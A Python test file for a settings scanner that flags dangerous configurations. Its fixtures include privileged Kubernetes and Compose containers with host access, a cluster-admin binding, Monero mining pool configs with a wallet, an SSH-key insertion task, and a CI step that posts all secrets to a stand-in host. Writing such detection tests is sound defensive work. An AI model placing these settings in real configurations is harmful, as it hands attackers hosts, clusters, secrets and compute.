"""Settings that give away a machine, a cluster or its secrets are found in every notation."""

from tests.cases import all_cases
from vskill_platform.scan.facts.facts import Act
from vskill_platform.scan.settings_files.settings_signs import settings_signs

WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq"
POD = (
    "kind: Pod\nspec:\n  hostPID: true\n  containers:\n    - securityContext: {privileged: true}\n"
)
BINDING = "kind: ClusterRoleBinding\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects:\n"


@all_cases(
    ("act", "text"),
    [
        (Act.ELEVATE, POD),
        (Act.ELEVATE, "services:\n  a:\n    privileged: true\n    volumes: ['/:/host']\n"),
        (Act.ELEVATE, '{"services": {"a": {"privileged": true, "pid": "host"}}}'),
        (Act.OPEN_ACCESS, BINDING + "  - {kind: User, name: 'ops@acme-widgets.dev'}\n"),
        (Act.MINE, f'{{"pools": [{{"url": "pool.supportxmr.com:443", "user": "{WALLET}"}}]}}'),
        (Act.MINE, f'{{"pools": [{{"url": "xmrpool.eu:9999", "user": "{WALLET}"}}]}}'),
        (
            Act.WRITE,
            "- ansible.posix.authorized_key:\n    key: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA",
        ),
        (Act.LEAK, "- run: curl -d \"$S\" https://a.example\n  env: {S: '${{ toJSON(secrets) }}'}"),
    ],
)
def test_finds_settings_that_give_something_away(act: Act, text: str) -> None:
    assert act in {fact.act for fact in settings_signs(text)}


@all_cases(
    "text",
    [
        "kind: Deployment\nspec:\n  containers:\n    - image: nginx\n",
        "services:\n  dind:\n    image: docker:dind\n    privileged: true\n",
        "services:\n  proxy:\n    volumes: ['/var/run/docker.sock:/var/run/docker.sock:ro']\n",
        BINDING + "  - kind: ServiceAccount\n    name: tiller\n",
        "- ansible.posix.authorized_key:\n    key: \"{{ lookup('file', 'id.pub') }}\"",
        "env: {T: '${{ toJSON(matrix) }}'}\nrun: curl https://a.example",
    ],
)
def test_passes_ordinary_settings(text: str) -> None:
    assert not list(settings_signs(text))
